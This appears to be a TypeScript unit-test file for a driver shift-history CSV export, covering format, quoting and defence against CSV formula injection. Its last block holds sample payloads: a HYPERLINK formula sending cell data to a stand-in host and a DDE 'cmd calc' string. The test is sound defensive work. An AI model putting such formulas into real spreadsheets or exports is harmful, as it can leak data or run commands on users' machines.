import type { Shift } from '../../../contract/entities';
import { localIso, makeShift } from '../../testing/fixtures';
import { historyCsv, historyCsvFileName } from './historyCsv';

const finished: Shift = makeShift({
  id: 2,
  first_name: 'Ana',
  last_name: 'Soto',
  rut: '760864285',
  plate_number: null,
  start_time: localIso(2026, 11, 20, 22, 30),
  end_time: localIso(2026, 11, 21, 6, 35),
  duration_seconds: 8 * 3600 + 5 * 60 + 59,
  is_active: false,
});
const active: Shift = makeShift({ id: 1, start_time: localIso(2026, 11, 21, 8, 0) });

describe('historyCsv', () => {
  it('starts with a BOM and the header, separates with ; and ends every line with CRLF', () => {
    const csv = historyCsv([]);
    expect(csv).toBe('\uFEFFConductor;RUT;Vehículo;Inicio;Fin;Duración;Estado\r\n');
  });

  it('writes each shift with the values shown on screen', () => {
    const lines = historyCsv([active, finished]).slice(1).split('\r\n');
    expect(lines).toEqual([
      'Conductor;RUT;Vehículo;Inicio;Fin;Duración;Estado',
      'Juan Pérez;12.531.909-2;BCDF12;21/11/2026 08:00;-;En curso;Activo',
      'Ana Soto;76.086.428-5;Sin vehículo;20/11/2026 22:30;21/11/2026 06:35;8h 5m;Finalizado',
      '',
    ]);
  });

  it('quotes fields holding ; " or line breaks, doubling their quotes', () => {
    const odd = makeShift({ first_name: 'María "Mary"', last_name: 'Paz; Rojas', plate_number: 'AB\n12', is_active: false });
    const line = historyCsv([odd]).split('\r\n')[1];
    expect(line.startsWith('"María ""Mary"" Paz; Rojas";12.531.909-2;"AB\n12";')).toBe(true);
    expect(line.endsWith(';Finalizado')).toBe(true);
  });
});

describe('historyCsvFileName', () => {
  it('carries the local date of the export', () => {
    expect(historyCsvFileName(new Date(2026, 10, 21, 23, 30))).toBe('historial-turnos-2026-11-21.csv');
  });
});

describe('historyCsv with formula payloads in names (CSV injection)', () => {
  const cellsOf = (shift: Shift) => historyCsv([shift]).split('\r\n')[1].split(';');

  it('writes a driver named like a formula as text: an apostrophe first, so Excel does not run it', () => {
    const hyperlink = makeShift({ first_name: '=HYPERLINK("http://evil.example/?"&A1,"Ver")', last_name: 'Pérez' });
    const line = historyCsv([hyperlink]).split('\r\n')[1];
    expect(line.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"") Pérez";12.531.909-2;`)).toBe(true);
  });

  it.each([
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0 Pérez"],
    ['@SUM(1+1)', "'@SUM(1+1) Pérez"],
    ['-2+3', "'-2+3 Pérez"],
  ])('a driver named %s starts its cell as text', (firstName, cell) => {
    expect(cellsOf(makeShift({ first_name: firstName }))[0]).toBe(cell);
  });

  it('keeps an ordinary name and the other cells as they were', () => {
    expect(cellsOf(makeShift({ first_name: 'Juan' }))[0]).toBe('Juan Pérez');
  });
});
